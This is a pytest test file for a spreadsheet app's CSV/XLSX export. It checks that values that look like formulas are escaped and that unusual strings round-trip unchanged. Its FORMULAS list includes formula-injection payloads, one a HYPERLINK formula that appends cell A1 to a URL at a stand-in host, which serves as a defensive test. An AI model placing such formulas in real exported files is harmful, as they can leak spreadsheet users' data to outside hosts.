"""What goes out is safe to open and is read back unchanged (C8, C12)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from gridapp.core.tables.headings import Column, arrange
from gridapp.core.tables.reading import read_table
from gridapp.core.tables.reports import BadFile
from gridapp.core.tables.writing import CHUNKS, guarded, plain, write_xlsx
from gridapp.core.texts import NOT_WRITTEN, cleaned

SHANGHAI = ZoneInfo("Asia/Shanghai")
COLUMNS = (Column("name", "姓名"), Column("text", "说明"))
HEADINGS = ["姓名", "说明"]
FORMULAS = [
    "=1+1",
    "+86 138",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1＋1",
    "＋1",
    "－1",
    "＠SUM",
    "  =1",
    "'=1",
    "''@x",
    "\n=1",
    '=HYPERLINK("http://example.org?x="&A1)',
    "|calc",
]
NAUGHTY = [
    "",
    "'",
    "''",
    "'a",
    "a'b",
    '"',
    '","',
    ";",
    "_x0041_",
    "_x000D_",
    "#N/A",
    "TRUE",
    "1e5",
    "007",
    "2026-12-01",
]
NAUGHTY += ["\u202eabc", "👩\u200d👩\u200d👧", "ﷺ", "a\nb", "\ufeff甲", "<b>&amp;</b>", "%s{0}", "長" * 4000]
kept = (
    st.text(st.characters(exclude_categories=["Cs", "Cc"], include_characters="\n\t'=+-@＝＋－＠,;\""))
    .map(cleaned)
    .filter(lambda text: not NOT_WRITTEN.search(text))
)
both = pytest.mark.parametrize("file_format", ["csv", "xlsx"])


def there_and_back(file_format: str, *rows: list[str]) -> list[tuple[str, str]]:
    """What is read of what was written."""
    content = b"".join(CHUNKS[file_format](HEADINGS, rows, SHANGHAI))
    sheet = arrange(read_table(content), COLUMNS)
    return [(values["name"], values["text"]) for _row, values, _number in sheet.values()]


@both
@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_looks_like_a_formula_is_none(file_format: str, text: str) -> None:
    content = b"".join(CHUNKS[file_format](HEADINGS, [["x", text]], SHANGHAI))

    if file_format == "csv":
        cell = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1][1]
    else:
        found = load_workbook(io.BytesIO(content)).active["B2"]
        assert found.data_type == "s"
        cell = found.value

    assert cell.startswith("'")
    assert plain(guarded(text)) == text


@both
@pytest.mark.parametrize("text", [*FORMULAS, *NAUGHTY])
def test_naughty_texts_are_read_back_unchanged(file_format: str, text: str) -> None:
    assert there_and_back(file_format, ["x", cleaned(text)]) == [("x", cleaned(text))]


@both
@settings(max_examples=40, deadline=None)
@given(rows=st.lists(st.tuples(kept, kept), max_size=5))
def test_whatever_is_written_is_read_back_unchanged(file_format: str, rows: list[tuple[str, str]]) -> None:
    filled = [row for row in rows if any(row)]

    assert there_and_back(file_format, *map(list, filled)) == filled


@given(text=st.text())
def test_the_guard_is_taken_away_exactly(text: str) -> None:
    assert plain(guarded(text)) == text
    if guarded(text) == text:
        assert plain(text) == text


@both
def test_moments_stand_on_the_towns_clock_and_figures_are_figures(file_format: str) -> None:
    row = [datetime(2026, 12, 1, 16, 30, tzinfo=UTC), date(2026, 12, 2), 40, None]

    content = b"".join(CHUNKS[file_format](["a", "b", "c", "d"], [row], SHANGHAI))

    assert read_table(content).rows[1].cells[:3] == ["2026-12-02 00:30", "2026-12-02", "40"]


def test_a_csv_file_is_known_as_utf_8_by_spreadsheets() -> None:
    assert b"".join(CHUNKS["csv"](["姓名"], [], SHANGHAI)) == "\ufeff姓名\r\n".encode()


def test_more_rows_than_a_workbook_holds_are_refused_not_cut() -> None:
    rows = [["甲", "乙"]] * 5

    write_xlsx(HEADINGS, rows, io.BytesIO(), SHANGHAI, last=6)
    with pytest.raises(BadFile, match="at most 4 rows"):
        write_xlsx(HEADINGS, rows, io.BytesIO(), SHANGHAI, last=5)


def test_a_long_list_leaves_in_pieces() -> None:
    pieces = list(CHUNKS["csv"](HEADINGS, (["甲" * 100, "乙"] for _ in range(5000)), SHANGHAI))

    assert len(pieces) > 5
    assert b"".join(pieces).count(b"\r\n") == 5001
